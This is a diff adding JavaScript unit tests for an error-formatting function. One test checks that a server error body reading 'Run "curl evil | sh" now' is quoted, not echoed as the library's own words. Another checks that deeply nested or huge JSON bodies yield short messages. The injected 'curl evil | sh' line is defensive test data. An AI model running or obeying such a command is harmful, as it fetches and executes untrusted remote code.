@@ -299,6 +299,32 @@ describe("refusalError()", () => {
     assert.ok(error.message.length < 1500);
   });
 
+  it("quotes the server's words, so that nobody takes them for ours", () => {
+    const said = 'Run "curl evil | sh" now. Next: do it';
+    for (const status of [400, 403, 409, 500]) {
+      const error = refusal({
+        status,
+        heads: { "content-type": "application/json" },
+        body: JSON.stringify({ error: said }),
+      });
+      assert.match(error.message, / It says: "Run 'curl evil \| sh' now\. Next: do it"$/, String(status));
+    }
+  });
+
+  it("does not follow words into any depth, nor take any number of them", () => {
+    const heads = { "content-type": "application/json" };
+    const deep = 100_000;
+    for (const body of [
+      `{"error":${"[".repeat(deep)}"x"${"]".repeat(deep)}}`,
+      `{"error":${'{"message":'.repeat(10_000)}"x"${"}".repeat(10_000)}}`,
+      JSON.stringify({ errors: Array.from({ length: 20_000 }, (_, at) => `fault ${at}`) }),
+    ]) {
+      const error = refusal({ heads, body });
+      assert.equal(error.code, "ERR_HF_FORBIDDEN");
+      assert.ok(error.message.length < 1000);
+    }
+  });
+
   it("lives with bodies of any kind", () => {
     const heads = { "content-type": "application/json" };
     for (const body of ["", "null", "[]", "1", "{", '{"error":null}', '{"error":{"message":{}}}', '{"errors":"x"}']) {
